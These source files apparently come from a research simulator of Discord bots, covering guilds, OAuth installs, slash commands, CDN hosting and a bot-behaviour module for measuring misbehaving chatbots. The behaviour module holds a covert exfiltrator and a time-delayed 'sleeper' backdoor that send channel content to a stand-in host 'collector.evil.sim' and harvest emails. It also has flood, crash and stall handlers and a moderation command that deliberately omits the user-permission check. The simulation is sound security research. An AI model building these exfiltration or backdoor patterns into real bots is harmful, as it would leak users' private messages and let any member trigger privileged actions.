#: Behaviours that misbehave at the *runtime* level (crash/flood/stall)
#: rather than the privacy level — ground truth for BotSupervisor.
ADVERSARIAL_BEHAVIORS = frozenset({CRASHER, FLOODER, STALLER})

#: How many replies a flooder posts per observed message.  Bounded so an
#: unsupervised run still terminates; large enough that any sane event
#: budget trips within a few feed messages.
FLOODER_BURST = 64

#: How long a staller's handler sleeps: three months of virtual time,
#: comfortably past any per-bot deadline and any observation window.
STALL_SECONDS = 90 * 86_400.0

#: Default dormancy before a sleeper turns: one week, comfortably past the
#: paper's observation horizon.
SLEEPER_WAKE_AFTER = 7 * 86_400.0


@dataclass
class OperatorActionLog:
    """What a nosy operator did during a manual inspection session."""

    messages_read: int = 0
    urls_visited: list[str] = field(default_factory=list)
    files_opened: list[str] = field(default_factory=list)
    posted: list[str] = field(default_factory=list)


def build_runtime(
    platform: DiscordPlatform,
    bot_user_id: int,
    behavior: str,
    internet: VirtualInternet | None = None,
    prefix: str = "!",
    exfil_host: str | None = None,
) -> BotRuntime:
    """Construct a started :class:`BotRuntime` exhibiting ``behavior``."""
    runtime = BotRuntime(platform, bot_user_id, prefix=prefix, internet=internet)
    if behavior in (BENIGN, NOSY_OPERATOR):
        _install_benign_commands(runtime)
    elif behavior == MODERATION_CHECKED:
        _install_benign_commands(runtime)
        _install_moderation(runtime, checked=True)
    elif behavior == MODERATION_UNCHECKED:
        _install_benign_commands(runtime)
        _install_moderation(runtime, checked=False)
    elif behavior == LINK_PREVIEW:
        _install_benign_commands(runtime)
        _install_link_preview(runtime)
    elif behavior == EXFILTRATOR:
        _install_benign_commands(runtime)
        _install_exfiltrator(runtime, exfil_host or "collector.evil.sim")
    elif behavior == SLEEPER:
        _install_benign_commands(runtime)
        _install_sleeper(runtime, exfil_host or "collector.evil.sim", SLEEPER_WAKE_AFTER)
    elif behavior == CRASHER:
        _install_benign_commands(runtime)
        _install_crasher(runtime)
    elif behavior == FLOODER:
        _install_benign_commands(runtime)
        _install_flooder(runtime)
    elif behavior == STALLER:
        _install_benign_commands(runtime)
        _install_staller(runtime)
    else:
        raise ValueError(f"unknown behavior: {behavior!r}")
    runtime.start()
    return runtime


# ---------------------------------------------------------------------------
# Command sets
# ---------------------------------------------------------------------------


def _install_benign_commands(runtime: BotRuntime) -> None:
    """The feature set every bot advertises: info, ping, poll."""

    @runtime.command("info", "Show bot information")
    def info(context: CommandContext) -> None:
        count = context.api.guild_count()
        context.reply(f"I am serving {count} guild(s). Try !ping or !poll.")

    @runtime.command("ping", "Health check")
    def ping(context: CommandContext) -> None:
        context.reply("pong")

    @runtime.command("poll", "Start a quick poll")
    def poll(context: CommandContext) -> None:
        question = " ".join(context.args) or "yes or no?"
        context.reply(f"Poll started: {question} React to vote!")


def _install_moderation(runtime: BotRuntime, checked: bool) -> None:
    """Kick/ban commands, with or without the user-permission guard.

    The unchecked variant is the re-delegation vulnerability: *any* user with
    SEND_MESSAGES can have the (privileged) bot kick someone.
    """

    def kick_impl(context: CommandContext) -> None:
        if not context.args:
            context.reply("usage: !kick <user_id>")
            return
        try:
            context.api.kick_member(context.guild_id, int(context.args[0]), reason="bot command")
            context.reply(f"kicked {context.args[0]}")
        except (GuildError, ValueError) as error:
            context.reply(f"cannot kick: {error}")

    def ban_impl(context: CommandContext) -> None:
        if not context.args:
            context.reply("usage: !ban <user_id>")
            return
        try:
            context.api.ban_member(context.guild_id, int(context.args[0]), reason="bot command")
            context.reply(f"banned {context.args[0]}")
        except (GuildError, ValueError) as error:
            context.reply(f"cannot ban: {error}")

    if checked:
        kick_impl = requires_user_permissions(Permission.KICK_MEMBERS)(kick_impl)
        ban_impl = requires_user_permissions(Permission.BAN_MEMBERS)(ban_impl)
    runtime.command("kick", "Kick a member")(kick_impl)
    runtime.command("ban", "Ban a member")(ban_impl)


def _install_link_preview(runtime: BotRuntime) -> None:
    """Declared functionality that opens URLs posted in chat.

    This is the benign-trigger case the honeypot methodology must reason
    about: "a chatbot should not be interacting with a token posted in a
    channel *unless it is part of its functionality*".
    """

    def preview(bot: BotRuntime, message: Message) -> None:
        for url in message.urls()[:3]:
            try:
                response = bot.api.visit_url(url)
            except ApiError:
                continue
            title = _extract_title(response.body)
            if title:
                try:
                    bot.api.send_message(message.guild_id, message.channel_id, f"Preview: {title}")
                except GuildError:
                    pass

    runtime.add_listener(preview)


def _install_exfiltrator(runtime: BotRuntime, exfil_host: str) -> None:
    """Covertly forward observed channel content to the developer's server."""

    def exfiltrate(bot: BotRuntime, message: Message) -> None:
        if bot.api.internet is None or not bot.api.internet.knows(exfil_host):
            return
        try:
            bot.api.visit_url(f"https://{exfil_host}/collect?content={message.content[:80]}")
        except ApiError:
            pass
        for url in message.urls():
            try:
                bot.api.visit_url(url)
            except ApiError:
                pass
        for attachment in message.attachments:
            bot.api.open_attachment(attachment)
        for address in message.email_addresses():
            bot.api.send_email(address, "newsletter")

    runtime.add_listener(exfiltrate)


def _install_sleeper(runtime: BotRuntime, exfil_host: str, wake_after: float) -> None:
    """Dormant backdoor: benign until ``wake_after`` seconds pass, then one
    full history sweep per guild (URLs visited, documents opened, emails
    harvested, content forwarded)."""
    armed_at = runtime.platform.clock.now()
    swept_guilds: set[int] = set()

    def maybe_wake(bot: BotRuntime) -> None:
        if bot.platform.clock.now() - armed_at < wake_after:
            return
        if bot.api.internet is None or not bot.api.internet.knows(exfil_host):
            return
        for guild_id in list(bot.platform.users[bot.bot_user_id].guild_ids):
            if guild_id in swept_guilds:
                continue
            swept_guilds.add(guild_id)
            guild = bot.platform.guilds.get(guild_id)
            if guild is None:
                continue
            for channel in guild.text_channels():
                try:
                    history = bot.api.read_history(guild_id, channel.channel_id)
                except GuildError:
                    continue
                for message in history:
                    try:
                        bot.api.visit_url(f"https://{exfil_host}/collect?content={message.content[:80]}")
                    except ApiError:
                        pass
                    for url in message.urls():
                        try:
                            bot.api.visit_url(url)
                        except ApiError:
                            pass
                    for attachment in message.attachments:
                        bot.api.open_attachment(attachment)
                    for address in message.email_addresses():
                        bot.api.send_email(address, "newsletter")

    runtime.add_tick_handler(maybe_wake)


def _install_crasher(runtime: BotRuntime) -> None:
    """A backend whose message handler throws on every delivery.

    The raise is *not* a ``GuildError`` (those the runtime absorbs); it
    models the genuinely unhandled bug — a bad deploy, a null deref — that
    takes an unsupervised campaign down with it.
    """

    def crash(bot: BotRuntime, message: Message) -> None:
        raise RuntimeError(f"crasher backend exploded handling message in guild {message.guild_id}")

    runtime.add_listener(crash)


def _install_flooder(runtime: BotRuntime) -> None:
    """A handler that answers every observed message with a reply storm.

    The gateway never re-delivers a bot its own messages, so each observed
    message costs a bounded :data:`FLOODER_BURST` dispatches — enough to
    blow through an event budget within a handful of feed messages.
    """

    def flood(bot: BotRuntime, message: Message) -> None:
        for index in range(FLOODER_BURST):
            try:
                bot.api.send_message(message.guild_id, message.channel_id, f"REPOST {index}: {message.content[:40]}")
            except GuildError:
                return

    runtime.add_listener(flood)


def _install_staller(runtime: BotRuntime) -> None:
    """A handler that blocks: it sleeps the clock for months per message."""

    def stall(bot: BotRuntime, message: Message) -> None:
        bot.platform.clock.sleep(STALL_SECONDS)

    runtime.add_listener(stall)


def _extract_title(html: str) -> str:
    lower = html.lower()
    start = lower.find("<title>")
    if start < 0:
        return ""
    end = lower.find("</title>", start)
    return html[start + 7 : end].strip() if end > start else ""


# ---------------------------------------------------------------------------
# The operator-logs-in-as-the-bot case (Melonian)
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class OperatorProfile:
    """Per-artifact curiosity of a nosy operator.

    The defaults reproduce the Melonian incident: the operator clicked the
    posted URL and opened the Word document, but left the PDF and the email
    address alone.
    """

    url_curiosity: float = 1.0
    docx_curiosity: float = 1.0
    pdf_curiosity: float = 0.0
    email_curiosity: float = 0.0


def operator_inspection(
    runtime: BotRuntime,
    guild_id: int,
    rng: random.Random,
    profile: OperatorProfile | None = None,
    post_comment: bool = True,
) -> OperatorActionLog:
    """Simulate a developer logging in as the bot and poking around.

    Mirrors the Melonian incident: message history is skimmed, a posted URL
    and Word document are opened "without authorization", and a distinctly
    non-automated message is posted *as the bot*.
    """
    profile = profile or OperatorProfile()
    log = OperatorActionLog()
    guild = runtime.platform.guilds.get(guild_id)
    if guild is None or runtime.bot_user_id not in guild.members:
        return log
    for channel in guild.text_channels():
        try:
            history = runtime.api.read_history(guild_id, channel.channel_id)
        except GuildError:
            continue
        log.messages_read += len(history)
        for message in history:
            for url in message.urls():
                if rng.random() < profile.url_curiosity:
                    try:
                        runtime.api.visit_url(url)
                        log.urls_visited.append(url)
                    except ApiError:
                        pass
            for attachment in message.attachments:
                curiosity = (
                    profile.docx_curiosity if attachment.extension in ("doc", "docx") else profile.pdf_curiosity
                )
                if rng.random() < curiosity:
                    try:
                        runtime.api.open_attachment(attachment)
                        log.files_opened.append(attachment.filename)
                    except ApiError:
                        pass
            for address in message.email_addresses():
                if rng.random() < profile.email_curiosity:
                    runtime.api.send_email(address, "hello")
    if post_comment and log.files_opened:
        for channel in guild.text_channels():
            try:
                runtime.api.send_message(guild_id, channel.channel_id, "wtf is this bro")
                log.posted.append("wtf is this bro")
                break
            except GuildError:
                continue
    return log
