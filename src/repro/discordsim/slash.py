"""Application (slash) commands: the platform-routed invocation path.

Prefix commands (``!kick``) reach the bot as ordinary messages, so only the
developer can check the invoking user — the gap the paper measures.  Slash
commands are different: the *platform* routes the interaction, which gives
it a choke point.  Discord's eventual remediation (rolled out around the
paper's publication) was exactly this: per-command
``default_member_permissions`` that the platform enforces before the bot
ever sees the interaction.  This module implements that mechanism so the
fix can be evaluated against the same attack.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.discordsim.guild import PermissionDenied, UnknownEntityError
from repro.discordsim.models import Message
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform


@dataclass
class SlashCommand:
    """One registered application command."""

    client_id: int
    name: str
    description: str
    handler: Callable[["Interaction"], None]
    #: When set, the platform requires the invoking member to hold these
    #: permissions — enforced *before* dispatch, regardless of bot code.
    default_member_permissions: Permissions | None = None


@dataclass
class Interaction:
    """What a handler receives for one slash invocation."""

    platform: DiscordPlatform
    guild_id: int
    channel_id: int
    user_id: int
    command: SlashCommand
    args: list[str] = field(default_factory=list)
    responses: list[str] = field(default_factory=list)

    def respond(self, content: str) -> Message:
        """Reply as the bot (interaction replies bypass SEND_MESSAGES —
        the platform grants the response slot)."""
        self.responses.append(content)
        application = self.platform.applications[self.command.client_id]
        guild = self.platform.guilds[self.guild_id]
        channel = guild.channel(self.channel_id)
        message = Message(
            message_id=self.platform.snowflakes.next_id(),
            channel_id=self.channel_id,
            guild_id=self.guild_id,
            author_id=application.bot_user.user_id,
            content=content,
            timestamp=self.platform.clock.now(),
            author_is_bot=True,
        )
        channel.messages.append(message)
        return message


class SlashCommandRegistry:
    """Registers and routes application commands for one platform."""

    def __init__(self, platform: DiscordPlatform) -> None:
        self.platform = platform
        self._commands: dict[tuple[int, str], SlashCommand] = {}
        self.invocations = 0
        self.platform_denials = 0

    # -- registration --------------------------------------------------------

    def register(
        self,
        client_id: int,
        name: str,
        handler: Callable[[Interaction], None],
        description: str = "",
        default_member_permissions: Permissions | None = None,
    ) -> SlashCommand:
        """Register a command for an application (requires the app to exist
        and its install to have included the applications.commands scope —
        approximated here by app existence)."""
        if client_id not in self.platform.applications:
            raise UnknownEntityError(f"no application {client_id}")
        command = SlashCommand(
            client_id=client_id,
            name=name,
            description=description,
            handler=handler,
            default_member_permissions=default_member_permissions,
        )
        self._commands[(client_id, name)] = command
        return command

    def commands_for(self, client_id: int) -> list[SlashCommand]:
        return [command for (owner, _), command in self._commands.items() if owner == client_id]

    # -- invocation -----------------------------------------------------------

    def invoke(
        self,
        user_id: int,
        guild_id: int,
        channel_id: int,
        client_id: int,
        name: str,
        args: list[str] | None = None,
    ) -> Interaction:
        """Route one slash invocation, applying the platform's checks.

        1. The invoker must be a guild member able to use application
           commands in the channel.
        2. If the command declares ``default_member_permissions``, the
           invoker must hold them — the platform-enforced fix for the
           re-delegation gap.
        """
        command = self._commands.get((client_id, name))
        if command is None:
            raise UnknownEntityError(f"no command /{name} for application {client_id}")
        guild = self.platform.guilds.get(guild_id)
        if guild is None or user_id not in guild.members:
            raise PermissionDenied("invoker is not a member of the guild")
        application = self.platform.applications[client_id]
        if application.bot_user.user_id not in guild.members:
            raise PermissionDenied("the application is not installed in this guild")
        held = guild.permissions_in(user_id, channel_id)
        if not held.has(Permission.USE_APPLICATION_COMMANDS):
            self.platform_denials += 1
            raise PermissionDenied("using slash commands requires USE_APPLICATION_COMMANDS")
        required = command.default_member_permissions
        if required is not None and not required.is_subset(held) and not held.is_administrator:
            self.platform_denials += 1
            raise PermissionDenied(
                f"/{name} requires {', '.join(required.display_names())} (platform-enforced)"
            )
        interaction = Interaction(
            platform=self.platform,
            guild_id=guild_id,
            channel_id=channel_id,
            user_id=user_id,
            command=command,
            args=list(args or []),
        )
        self.invocations += 1
        command.handler(interaction)
        return interaction
