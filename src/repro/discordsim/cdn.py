"""The platform CDN: public, unauthenticated attachment hosting.

The paper's introduction cites the abuse this enables: ">17,000 unique URLs
in Discord's content delivery network pointing to malware" — files uploaded
to a guild become world-readable links that outlive moderation and carry
the platform's trusted domain.  The simulator reproduces the property:
every posted attachment is assigned a ``cdn.discord.sim`` URL that anyone
on the virtual internet can fetch, no account required.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.discordsim.models import Attachment
from repro.discordsim.platform import DiscordPlatform
from repro.web.http import Request, Response
from repro.web.network import VirtualInternet
from repro.web.server import VirtualHost

CDN_HOSTNAME = "cdn.discord.sim"


@dataclass
class CdnEntry:
    attachment: Attachment
    channel_id: int
    guild_id: int
    fetches: int = 0


class DiscordCDN:
    """Registers the CDN host and mirrors every posted attachment onto it."""

    def __init__(self, platform: DiscordPlatform) -> None:
        self.platform = platform
        self._entries: dict[tuple[int, int, str], CdnEntry] = {}
        self.host = VirtualHost(CDN_HOSTNAME)
        self.host.add_route("/attachments/{channel_id}/{attachment_id}/{filename}", self._serve)
        from repro.discordsim.gateway import EventType

        platform.events.subscribe(self._on_message, EventType.MESSAGE_CREATE)

    def register(self, internet: VirtualInternet) -> None:
        internet.register(CDN_HOSTNAME, self.host)

    # -- ingestion ------------------------------------------------------------

    def _on_message(self, event) -> None:
        message = event.payload["message"]
        for attachment in message.attachments:
            key = (message.channel_id, attachment.attachment_id, attachment.filename)
            self._entries.setdefault(
                key, CdnEntry(attachment=attachment, channel_id=message.channel_id, guild_id=message.guild_id)
            )

    @staticmethod
    def url_for(channel_id: int, attachment: Attachment) -> str:
        return f"https://{CDN_HOSTNAME}/attachments/{channel_id}/{attachment.attachment_id}/{attachment.filename}"

    # -- serving ----------------------------------------------------------------

    def _serve(self, request: Request, channel_id: str, attachment_id: str, filename: str) -> Response:
        try:
            key = (int(channel_id), int(attachment_id), filename)
        except ValueError:
            return Response.not_found()
        entry = self._entries.get(key)
        if entry is None:
            return Response.not_found()
        entry.fetches += 1
        # Anyone with the URL gets the bytes: no auth, no membership check.
        return Response(
            status=200,
            headers=_content_headers(entry.attachment.content_type),
            body=entry.attachment.content,
        )

    # -- inventory (what an abuse scanner enumerates) ------------------------------

    def hosted_urls(self) -> list[str]:
        return [
            self.url_for(channel_id, entry.attachment)
            for (channel_id, _, _), entry in self._entries.items()
        ]

    def entry_for_url(self, url: str) -> CdnEntry | None:
        parts = url.split("/attachments/", 1)
        if len(parts) != 2:
            return None
        try:
            channel_id, attachment_id, filename = parts[1].split("/", 2)
            key = (int(channel_id), int(attachment_id), filename)
        except ValueError:
            return None
        return self._entries.get(key)

    @property
    def total_hosted(self) -> int:
        return len(self._entries)


def _content_headers(content_type: str):
    from repro.web.http import Headers

    return Headers({"Content-Type": content_type or "application/octet-stream"})
