"""The platform: accounts, guilds, applications and the install flow.

Two properties the paper leans on are reproduced here:

1. **Installation is consent-gated but captcha-protected.**  Adding a bot to
   a guild requires the MANAGE_GUILD permission, an OAuth consent screen and
   a solved reCAPTCHA (the paper automated this with 2Captcha).
2. **Anti-abuse friction on virtual accounts.**  A *normal* account that
   joins many guilds in quick succession gets flagged and must complete
   mobile verification — the manual step the paper complains about.  Bot
   accounts have no guild limit.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from repro.discordsim.gateway import Event, EventBus, EventType
from repro.discordsim.guild import Guild, PermissionDenied
from repro.discordsim.models import Attachment, ChannelType, Member, Message, User
from repro.discordsim.oauth import ConsentScreen, OAuthScope, parse_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.snowflake import SnowflakeGenerator
from repro.web.captcha import CaptchaService
from repro.web.network import VirtualClock


class PlatformError(Exception):
    """Base class for platform-level failures."""


@dataclass(frozen=True)
class PlatformPolicy:
    """Platform-level security posture.

    The paper's architectural comparison (Sections 2 and 6): business
    collaboration platforms like Slack and MS Teams run a *two-level*
    access-control system — OAuth **plus a runtime policy enforcer** —
    while Discord stops at OAuth and "entrusts" the user-permission check
    to third-party developers.  ``runtime_user_permission_checks`` models
    that enforcer; ``vetting_review`` models a marketplace review gate
    before an application may be installed at all.
    """

    name: str = "discord"
    runtime_user_permission_checks: bool = False
    vetting_review: bool = False


#: Discord's posture: OAuth consent only, no runtime enforcer, no strict
#: marketplace review (top.gg is community-run).
DISCORD_POLICY = PlatformPolicy(name="discord")

#: Slack/Teams-style posture: the platform checks the *invoking user's*
#: permission at runtime before a bot may act on their behalf, and apps go
#: through directory review before becoming installable.
ENFORCED_POLICY = PlatformPolicy(
    name="enforced", runtime_user_permission_checks=True, vetting_review=True
)


class InstallError(PlatformError):
    """The OAuth install flow failed (bad link, missing permission, captcha)."""


class VerificationRequired(PlatformError):
    """Anti-abuse flag: the account must complete mobile verification."""


@dataclass
class BotApplication:
    """A registered third-party application with its bot user."""

    client_id: int
    name: str
    owner_id: int
    bot_user: User
    scopes: tuple[OAuthScope, ...] = (OAuthScope.BOT,)
    whitelisted_scopes: frozenset[OAuthScope] = frozenset()


@dataclass
class InstallRecord:
    """One completed bot installation."""

    client_id: int
    guild_id: int
    installer_id: int
    permissions: Permissions
    time: float


class _BotGatewayRoute:
    """One bot runtime's gateway connection, indexed per member guild.

    Instead of one wildcard subscription whose predicate re-derives guild
    membership on *every* message anywhere on the platform, the route holds
    one guild-keyed subscription per guild the bot belongs to — so the bus
    only examines this bot for messages in guilds it can actually see.
    The platform extends the route when membership changes through platform
    paths (``create_guild``, ``join_guild``, ``complete_install``); the
    visibility predicate still re-checks membership and VIEW_CHANNEL, so a
    kick/ban (which bypasses the route) merely leaves a subscription that
    filters everything out rather than delivering wrongly.
    """

    def __init__(self, platform: "DiscordPlatform", bot_user_id: int, callback) -> None:
        self._platform = platform
        self._bot_user_id = bot_user_id
        self._callback = callback
        self._per_guild: dict[int, Callable[[], None]] = {}
        self._closed = False

    def attach(self, guild_id: int) -> None:
        """Add a guild-keyed subscription (idempotent, no-op once closed)."""
        if self._closed or guild_id in self._per_guild:
            return
        self._per_guild[guild_id] = self._platform.events.subscribe(
            self._callback, EventType.MESSAGE_CREATE, self._visible, guild_id=guild_id
        )

    def _visible(self, event: Event) -> bool:
        guild = self._platform.guilds.get(event.guild_id)
        if guild is None or self._bot_user_id not in guild.members:
            return False
        message: Message = event.payload["message"]
        if message.author_id == self._bot_user_id:
            return False
        return guild.permissions_in(self._bot_user_id, message.channel_id).has(Permission.VIEW_CHANNEL)

    def close(self) -> None:
        self._closed = True
        for unsubscribe in self._per_guild.values():
            unsubscribe()
        self._per_guild.clear()


class DiscordPlatform:
    """The simulated messaging platform.

    Note what is *absent*: there is no runtime policy enforcer checking the
    permissions of the **user who invokes a bot command** — Discord entrusts
    that check to third-party developers, which is the architectural gap the
    paper measures (Section 4.2, code analysis).
    """

    #: Joining more than this many guilds inside ``JOIN_WINDOW`` seconds
    #: flags an unverified normal account.
    JOIN_LIMIT = 10
    JOIN_WINDOW = 3600.0

    def __init__(
        self,
        clock: VirtualClock | None = None,
        captcha_seed: int = 7,
        policy: PlatformPolicy = DISCORD_POLICY,
    ) -> None:
        self.clock = clock or VirtualClock()
        self.snowflakes = SnowflakeGenerator(self.clock)
        self.events = EventBus()
        self.captcha = CaptchaService(self.clock, seed=captcha_seed)
        self.policy = policy
        self.users: dict[int, User] = {}
        self.guilds: dict[int, Guild] = {}
        self.applications: dict[int, BotApplication] = {}
        self.vetted_applications: set[int] = set()
        self.installs: list[InstallRecord] = []
        #: Live gateway routes per bot user (a bot may connect more than once).
        self._bot_routes: dict[int, list[_BotGatewayRoute]] = {}
        self._join_times: dict[int, list[float]] = {}
        self.messages_posted = 0
        self.enforcer_denials = 0

    # -- accounts ------------------------------------------------------------

    def create_user(self, name: str, email: str | None = None, phone_verified: bool = False) -> User:
        user = User(
            user_id=self.snowflakes.next_id(),
            name=name,
            discriminator=f"{(self.snowflakes.next_id() % 9000) + 1000:04d}",
            email=email,
            phone_verified=phone_verified,
            created_at=self.clock.now(),
        )
        self.users[user.user_id] = user
        return user

    def vet_application(self, client_id: int) -> None:
        """Marketplace review approval (used by vetting-enabled policies)."""
        if client_id not in self.applications:
            raise PlatformError(f"no application {client_id} to vet")
        self.vetted_applications.add(client_id)

    def authorize_user_action(self, guild_id: int, acting_user_id: int, permission: Permission) -> bool:
        """The runtime policy enforcer's core question: may this *user*
        perform this action?  Only consulted when the policy enables
        runtime user-permission checks (Slack/Teams posture)."""
        guild = self.guilds.get(guild_id)
        if guild is None or acting_user_id not in guild.members:
            return False
        allowed = guild.base_permissions(acting_user_id).has(permission)
        if not allowed:
            self.enforcer_denials += 1
        return allowed

    def verify_phone(self, user_id: int) -> None:
        """The manual mobile-verification step from the paper."""
        user = self.users[user_id]
        user.phone_verified = True
        user.flagged_for_verification = False

    def register_application(
        self,
        owner: User,
        name: str,
        scopes: tuple[OAuthScope, ...] = (OAuthScope.BOT,),
        whitelisted_scopes: frozenset[OAuthScope] = frozenset(),
        client_id: int | None = None,
    ) -> BotApplication:
        """Register a third-party application; mints its bot account.

        ``client_id`` defaults to the bot user's snowflake; callers that
        already advertise an id elsewhere (listing sites) may pin it.
        """
        bot_user = self.create_user(name=name)
        bot_user.is_bot = True
        resolved_client_id = client_id if client_id is not None else bot_user.user_id
        if resolved_client_id in self.applications:
            raise PlatformError(f"client_id {resolved_client_id} already registered")
        application = BotApplication(
            client_id=resolved_client_id,
            name=name,
            owner_id=owner.user_id,
            bot_user=bot_user,
            scopes=scopes,
            whitelisted_scopes=whitelisted_scopes,
        )
        self.applications[application.client_id] = application
        return application

    # -- guilds --------------------------------------------------------------

    def create_guild(self, owner: User, name: str, private: bool = True) -> Guild:
        self._note_join(owner)
        guild = Guild(
            guild_id=self.snowflakes.next_id(),
            name=name,
            owner=owner,
            snowflakes=self.snowflakes,
            private=private,
        )
        guild.create_channel("general", ChannelType.TEXT)
        guild.create_channel("voice", ChannelType.VOICE)
        self.guilds[guild.guild_id] = guild
        self._extend_bot_routes(owner.user_id, guild.guild_id)
        self.events.dispatch(Event(EventType.GUILD_CREATE, guild.guild_id, {"guild": guild}, self.clock.now()))
        return guild

    def join_guild(self, user_id: int, guild_id: int) -> Member:
        """Join as a normal user (private guilds are invitation-equivalent here)."""
        user = self.users[user_id]
        self._note_join(user)
        guild = self.guilds[guild_id]
        member = guild.add_member(user)
        self._extend_bot_routes(user_id, guild_id)
        self.events.dispatch(
            Event(EventType.GUILD_MEMBER_ADD, guild_id, {"member": member}, self.clock.now())
        )
        return member

    def _note_join(self, user: User) -> None:
        """Anti-abuse: rapid guild-joining flags unverified normal accounts."""
        if user.is_bot or user.phone_verified:
            return
        times = self._join_times.setdefault(user.user_id, [])
        now = self.clock.now()
        cutoff = now - self.JOIN_WINDOW
        times[:] = [stamp for stamp in times if stamp >= cutoff]
        times.append(now)
        if len(times) > self.JOIN_LIMIT:
            user.flagged_for_verification = True
            raise VerificationRequired(
                f"account {user.name} joined {len(times)} guilds in {self.JOIN_WINDOW:.0f}s; "
                "mobile verification required"
            )

    # -- bot installation -----------------------------------------------------------

    def begin_install(self, installer_id: int, invite_url: str, guild_id: int) -> ConsentScreen:
        """Resolve the invite link and return the consent screen (with captcha)."""
        try:
            invite = parse_invite_url(invite_url)
        except Exception as error:
            raise InstallError(f"invalid invite link: {error}") from error
        application = self.applications.get(invite.client_id)
        if application is None:
            raise InstallError(f"no application with client_id {invite.client_id}")
        guild = self.guilds.get(guild_id)
        if guild is None:
            raise InstallError(f"no guild {guild_id}")
        installer = self.users.get(installer_id)
        if installer is None or installer_id not in guild.members:
            raise InstallError("installer must be a member of the target guild")
        challenge = self.captcha.issue()
        return ConsentScreen(
            bot_name=application.name,
            invite=invite,
            captcha_challenge_id=challenge.challenge_id,
            captcha_prompt=challenge.prompt,
            guild_names=[guild.name],
        )

    def complete_install(
        self,
        installer_id: int,
        guild_id: int,
        invite_url: str,
        captcha_id: str,
        captcha_answer: str,
    ) -> Member:
        """Finish the OAuth flow: captcha, MANAGE_GUILD, scope whitelist, role."""
        try:
            invite = parse_invite_url(invite_url)
        except Exception as error:
            raise InstallError(f"invalid invite link: {error}") from error
        application = self.applications.get(invite.client_id)
        if application is None:
            raise InstallError(f"no application with client_id {invite.client_id}")
        guild = self.guilds.get(guild_id)
        if guild is None:
            raise InstallError(f"no guild {guild_id}")
        if not self.captcha.verify(captcha_id, captcha_answer):
            raise InstallError("captcha verification failed")
        if self.policy.vetting_review and application.client_id not in self.vetted_applications:
            raise InstallError(f"application {application.name} has not passed directory review")
        try:
            installer_permissions = guild.base_permissions(installer_id)
        except Exception as error:
            raise InstallError(f"installer not in guild: {error}") from error
        if not installer_permissions.has(Permission.MANAGE_GUILD):
            raise InstallError("installing a chatbot requires the MANAGE_GUILD permission")
        for scope in invite.scopes:
            if scope.requires_whitelist and scope not in application.whitelisted_scopes:
                raise InstallError(f"scope {scope.value} requires whitelisting by platform staff")
            if scope.testing_only:
                raise InstallError(f"scope {scope.value} is only available for testing")
        bot_role = guild.create_role(
            name=application.name,
            permissions=invite.permissions,
            managed=True,
        )
        member = guild.add_member(application.bot_user)
        member.role_ids.append(bot_role.role_id)
        self._extend_bot_routes(application.bot_user.user_id, guild_id)
        record = InstallRecord(
            client_id=application.client_id,
            guild_id=guild_id,
            installer_id=installer_id,
            permissions=invite.permissions,
            time=self.clock.now(),
        )
        self.installs.append(record)
        self.events.dispatch(
            Event(EventType.GUILD_MEMBER_ADD, guild_id, {"member": member, "install": record}, self.clock.now())
        )
        return member

    # -- messaging ------------------------------------------------------------------

    def post_message(
        self,
        author_id: int,
        guild_id: int,
        channel_id: int,
        content: str,
        attachments: list[Attachment] | None = None,
    ) -> Message:
        """Post a message, enforcing channel permissions of the *author*."""
        guild = self.guilds[guild_id]
        channel = guild.channel(channel_id)
        if channel.type is not ChannelType.TEXT:
            raise PlatformError("cannot post text to a voice channel")
        permissions = guild.permissions_in(author_id, channel_id)
        if not permissions.has(Permission.SEND_MESSAGES):
            raise PermissionDenied("posting requires SEND_MESSAGES in this channel")
        if attachments and not permissions.has(Permission.ATTACH_FILES):
            raise PermissionDenied("posting files requires ATTACH_FILES in this channel")
        author = self.users[author_id]
        message = Message(
            message_id=self.snowflakes.next_id(),
            channel_id=channel_id,
            guild_id=guild_id,
            author_id=author_id,
            content=content,
            timestamp=self.clock.now(),
            attachments=list(attachments or []),
            author_is_bot=author.is_bot,
        )
        channel.messages.append(message)
        self.messages_posted += 1
        self.events.dispatch(
            Event(EventType.MESSAGE_CREATE, guild_id, {"message": message, "channel": channel}, self.clock.now())
        )
        return message

    # -- gateway visibility ---------------------------------------------------------

    def _extend_bot_routes(self, user_id: int, guild_id: int) -> None:
        """Attach any live gateway routes for ``user_id`` to ``guild_id``."""
        for route in self._bot_routes.get(user_id, ()):
            route.attach(guild_id)

    def subscribe_bot(self, bot_user_id: int, callback) -> Callable[[], None]:
        """Subscribe a bot to MESSAGE_CREATE for channels it can view.

        The subscription is guild-indexed: one bus entry per guild the bot
        is a member of now, extended automatically as the bot gains guilds
        through platform paths.  Membership granted by mutating a
        :class:`~repro.discordsim.guild.Guild` directly does *not* extend
        the route — go through ``join_guild``/``complete_install``.

        Returns the unsubscribe function, so a runtime can disconnect
        cleanly (e.g. when the supervision layer quarantines it).
        """
        route = _BotGatewayRoute(self, bot_user_id, callback)
        for guild in self.guilds.values():
            if bot_user_id in guild.members:
                route.attach(guild.guild_id)
        self._bot_routes.setdefault(bot_user_id, []).append(route)

        def unsubscribe() -> None:
            route.close()
            routes = self._bot_routes.get(bot_user_id)
            if routes is not None:
                try:
                    routes.remove(route)
                except ValueError:
                    pass
                if not routes:
                    del self._bot_routes[bot_user_id]

        return unsubscribe
