"""Core data model: users, members, roles, channels, messages, attachments."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from enum import Enum

from repro.discordsim.permissions import PermissionOverwrite, Permissions

URL_PATTERN = re.compile(r"https?://[^\s<>\"']+")
EMAIL_PATTERN = re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}")


class ChannelType(Enum):
    TEXT = "text"
    VOICE = "voice"


@dataclass
class User:
    """A platform account.  ``is_bot`` mirrors Discord's bot/normal split."""

    user_id: int
    name: str
    discriminator: str = "0001"
    is_bot: bool = False
    email: str | None = None
    phone_verified: bool = False
    flagged_for_verification: bool = False
    created_at: float = 0.0
    guild_ids: set[int] = field(default_factory=set)

    @property
    def tag(self) -> str:
        """The ``name#discriminator`` form the paper uses (editid#6714)."""
        return f"{self.name}#{self.discriminator}"

    def __hash__(self) -> int:
        return hash(self.user_id)


@dataclass
class Role:
    """A guild role.  Position 0 is reserved for @everyone."""

